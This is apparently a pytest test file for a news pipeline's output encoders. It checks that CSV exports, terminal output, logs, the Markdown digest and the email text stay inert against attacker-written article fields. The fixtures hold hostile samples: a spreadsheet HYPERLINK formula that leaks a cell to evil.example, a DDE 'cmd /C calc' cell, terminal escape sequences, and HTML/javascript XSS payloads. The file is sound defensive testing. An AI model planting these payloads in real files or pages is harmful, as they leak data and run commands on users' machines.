"""Output encoders for every sink (issue 13, classes 4 and 8).

An article whose title, text, evidence and participants were written by an attacker:
formulas for a spreadsheet, escape sequences for a terminal, HTML and Markdown for
the digest. Each sink gets it encoded: csv cells neutralised by the OWASP rule,
terminal output without control characters, JSON with them escaped, Markdown
(the digest file and the email's text part, rendered here by a real CommonMark
parser) showing the text instead of running it. A hand-built SQLite database, the
real CLI, a real SMTP server.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import json
import logging
import re
from datetime import UTC, date
from pathlib import Path

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from extractors.records import Event, ExtractInput, Extraction, Mention, Official
from pipeline.cli import main
from pipeline.core.encoders import (
    TerminalSafeFormatter,
    csv_cell,
    json_text,
    markdown_text,
    terminal_line,
    terminal_text,
)
from pipeline.core.models import ArticleText, FeedPoll, Source
from pipeline.digest.build import build_digest
from pipeline.digest.render import render_html, render_markdown
from storage import Store, open_database

REPO = Path(__file__).resolve().parents[1]

# A title that is a formula, retitles and clears the terminal (OSC, CSI, 8-bit CSI,
# BEL, CR), and carries raw HTML, emphasis and a javascript: link for Markdown.
TITLE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click") \x1b]0;pwned\x07\x1b[2J\x9b31m'
    "\rFAKE <img src=x onerror=alert(1)> **loud** [win](javascript:alert(1))\u202e"
)
SENTENCE = "@SUM(1+1) Ada Vale met Bo Ruiz in Lima to discuss lithium."
TEXT = (
    f"{SENTENCE} -2+3 said \x1b[31mred\x1b[0m and \x07bell.\n\n# Forged heading\n"
    "<script>alert(1)</script>"
)
PARTICIPANTS = ("+cmd|' /C calc'!A0", "Bo Ruiz")
DAY = date(2026, 3, 10)
URL = "https://news.example/evil?a=1&b=(2)"

# What no terminal may receive: C0 but newline and tab, DEL, C1, bidi overrides.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_article(store: Store) -> int:
    doc = ExtractInput(id="evil", text=TEXT, title=TITLE).doc_text
    start = doc.index(SENTENCE)

    def mentions(word: str) -> list[Mention]:
        return [
            Mention(word.lower(), m.start(), m.end(), word, 0, len(doc))
            for m in re.finditer(re.escape(word), doc)
        ]

    extraction = Extraction(
        id="evil",
        officials=[Official(o, role="Minister", mentions=mentions(o)) for o in ("Ada Vale",)],
        minerals=mentions("lithium"),
        events=[
            Event(
                "meeting",
                SENTENCE,
                start,
                start + len(SENTENCE),
                participants=list(PARTICIPANTS),
                minerals=["lithium"],
                location="Lima",
            )
        ],
        extractor_version="test",
    )
    article = ArticleText(
        source="evil-feed", url=URL, canonical_url=URL, title=TITLE, authors=("=1+1",),
        published="2026-03-10T10:00:00+00:00", language="en", text=TEXT,
        text_hash=hashlib.sha256(TEXT.encode()).hexdigest(),
    )  # fmt: skip
    article_id = store.add_article(article, extraction, "2026-03-10T12:00:00+00:00")
    assert article_id is not None
    return article_id


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    path = tmp_path / "nw.db"
    with Store.open(path) as store:
        _hostile_article(store)
        source = Source(name="evil-feed", location="https://news.example/feed", kind="http")
        poll = FeedPoll(source="evil-feed", status="error", error=f"HTTP 500: {TITLE}")
        store.record_poll(source, poll, "2026-03-10T12:00:00+00:00")
    return path


def _run(*args: str) -> tuple[int, bytes, bytes]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr_bytes


def _no_formula_cells(rows: list[list[str]]) -> int:
    """How many cells there are; fails on any a spreadsheet would run as a formula."""
    cells = 0
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
            cells += 1
    return cells


def _is_number(cell: str) -> bool:
    """A score such as -1e-06 is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- class 4: CSV (formula) injection ----------------------------------------------------


def test_csv_cell_follows_the_owasp_rule():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "  =1+1"):
        assert csv_cell(dangerous) == "'" + dangerous
    # A carriage return is dropped (it would rewind a terminal line), so it leads nothing.
    assert csv_cell("\r=1+1") == "'=1+1" and csv_cell("\rx") == "x"
    assert csv_cell("plain") == "plain" and csv_cell("a=b") == "a=b"
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None


@pytest.mark.parametrize("what", ["articles", "events", "mentions", "entities"])
def test_export_csv_neutralises_formula_cells(hostile_db, tmp_path, what):
    out = tmp_path / f"{what}.csv"
    args = ["export", "--what", what, "--format", "csv", "-o", str(out), "--db", str(hostile_db)]
    code, _, stderr = _run(*args)
    assert code == 0, stderr
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) > 1
    assert _no_formula_cells(rows)
    if what == "articles":
        row = dict(zip(rows[0], rows[1], strict=True))
        # Neutralised, not dropped: the text is still all there behind the quote.
        assert row["title"].startswith("'=HYPERLINK(") and "FAKE <img" in row["title"]
    if what == "events":
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row["evidence"] == "'" + SENTENCE


@pytest.mark.parametrize("command", [["events"], ["search", "lithium"]])
def test_events_and_search_csv_neutralise_formula_cells(hostile_db, command):
    code, stdout, stderr = _run(*command, "--format", "csv", "--db", str(hostile_db))
    assert code == 0, stderr
    rows = list(csv.reader(io.StringIO(stdout.decode("utf-8"))))
    assert len(rows) == 2
    assert _no_formula_cells(rows)
    assert not CONTROL.search(stdout.decode("utf-8").replace("\r\n", "\n"))


# --- class 8: terminal output ----------------------------------------------------------


def test_terminal_encoders_drop_escape_sequences_whole():
    assert terminal_text("a\x1b]0;pwned\x07b\x1b[2Jc\x9b31md\re\x7f\u202ef\ng\th") == "abcdef\ng\th"
    assert terminal_line("one\ntwo\tthree\r\nfour") == "one two three  four"
    assert json.loads(json_text({"t": TITLE}, ensure_ascii=False)) == {"t": TITLE}
    assert not CONTROL.search(json_text({"t": TITLE}, ensure_ascii=False))


@pytest.mark.parametrize(
    "command",
    [
        ["search", "lithium"],
        ["search", "lithium", "--format", "json"],
        ["events"],
        ["events", "--format", "json"],
        ["export", "--what", "articles"],
        ["export", "--what", "events"],
    ],
)
def test_reading_commands_print_no_control_characters(hostile_db, command):
    code, stdout, stderr = _run(*command, "--db", str(hostile_db))
    assert code == 0, stderr
    text = stdout.decode("utf-8")
    assert not CONTROL.search(text), text[:400]
    assert "Ada Vale met Bo Ruiz" in text  # the rest of the text is still there
    if "json" not in command and command[0] != "export":
        assert "pwned" not in text  # the escape sequence went whole, payload and all
    elif command[-1] != "events":  # (exported events carry no title)
        # JSON keeps the value exactly: the control characters are escaped, not lost.
        values = json.loads(text) if text.startswith("[") else json.loads(text.splitlines()[0])
        record = values[0] if isinstance(values, list) else values
        assert TITLE in (record.get("title"), record.get("article_title"))


def test_status_prints_a_servers_error_without_control_characters(hostile_db, tmp_path):
    config = tmp_path / "config.toml"
    config.write_text(
        f'[storage]\npath = "{hostile_db}"\n[[feeds]]\nname = "evil-feed"\n'
        'url = "https://news.example/feed"\n'
    )
    code, stdout, stderr = _run("--config", str(config), "status")
    assert code == 0, stderr
    text = stdout.decode("utf-8")
    assert "HTTP 500" in text and not CONTROL.search(text), text
    # One line per error: the server's text cannot start a line of its own.
    assert not any(line.startswith("FAKE") for line in text.splitlines())


def test_log_lines_are_one_safe_line():
    formatter = TerminalSafeFormatter("%(levelname)s %(message)s")
    record = logging.LogRecord("t", logging.INFO, __file__, 1, "stored %s", (TITLE,), None)
    line = formatter.format(record)
    assert "\n" not in line and not CONTROL.search(line) and "FAKE" in line
    assert record.getMessage() == f"stored {TITLE}"  # other handlers still get the record


def test_the_daemons_log_file_gets_one_safe_line_per_record(tmp_path):
    from pipeline.core.config import LoggingConfig
    from pipeline.daemon.schedule import configure_logging

    root = logging.getLogger()
    before, level = list(root.handlers), root.level
    try:
        configure_logging(LoggingConfig(file="nw.log", level="info"), tmp_path, None)
        logging.getLogger("pipeline.test").warning("stored %s", TITLE)
    finally:
        for handler in set(root.handlers) - set(before):
            handler.close()
            root.removeHandler(handler)
        root.setLevel(level)
    text = (tmp_path / "nw.log").read_text(encoding="utf-8")
    assert text.count("\n") == 1 and "FAKE <img" in text and not CONTROL.search(text)


def test_cli_modules_print_only_through_the_encoder():
    """Every command prints with pipeline.cli.support.echo/echo_json (or emit, which
    encodes its own cells): a bare click.echo or print would skip the encoder."""
    offenders = []
    for module in sorted((REPO / "pipeline" / "cli").glob("*.py")):
        if module.name == "support.py":
            continue
        tree = ast.parse(module.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            if name in ("click.echo", "print", "click.secho", "sys.stdout.write"):
                offenders.append(f"{module.name}:{node.lineno} {name}")
    assert offenders == []


# --- class 8: the Markdown digest and the email's text part ---------------------------


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


@pytest.fixture
def hostile_digest(hostile_db):
    db = open_database(hostile_db, readonly=True)
    try:
        return build_digest(db, DAY, tz=UTC)
    finally:
        db.close()


def _assert_markdown_is_inert(markdown: str) -> None:
    html = _rendered(markdown)
    assert "<img" not in html and "<script" not in html, html
    assert 'href="javascript' not in html
    assert "<strong>loud</strong>" not in html and "<em>" not in html
    # Only the template's own headings: the article's "# Forged heading" is not one.
    assert "Forged heading</h" not in html
    assert not CONTROL.search(markdown)
    # The article's text is shown, as text.
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "**loud**" in html
    assert "@SUM(1+1) Ada Vale met Bo Ruiz" in html


def test_markdown_digest_shows_article_text_as_text(hostile_digest):
    assert hostile_digest.event_count == 1
    markdown = render_markdown(hostile_digest)
    _assert_markdown_is_inert(markdown)
    # Links to the article still work, with the URL intact.
    assert 'href="https://news.example/evil?a=1&amp;b=%282%29"' in _rendered(markdown)
    html = render_html(hostile_digest, None)
    assert "<img src=x" not in html and 'href="javascript' not in html


def test_markdown_text_escapes_links_html_and_block_markers():
    for value in ("# h", "1. x", "- x", "---", "> q", "<b>x</b>", "[a](http://e)", "![i](x.png)"):
        html = _rendered(f"- {markdown_text(value)}\n")
        assert html == f"<ul>\n<li>{_html_text(value)}</li>\n</ul>\n", (value, html)


def _html_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_email_text_part_is_escaped_markdown(hostile_digest):
    """The digest mailed through a real SMTP server: its text/plain part is inert too."""
    from aiosmtpd.controller import Controller

    from pipeline.digest.mailer import email_digest
    from tests.test_mailer import Inbox, email_config, free_port

    inbox = Inbox()
    port = free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        email_digest(email_config(port), hostile_digest, None)
    finally:
        controller.stop()
    [(_, message)] = inbox.messages
    text = next(p for p in message.walk() if p.get_content_type() == "text/plain")
    _assert_markdown_is_inert(text.get_content().replace("\r\n", "\n"))  # SMTP line ends
    html = next(p for p in message.walk() if p.get_content_type() == "text/html")
    assert "<img src=x" not in html.get_content()
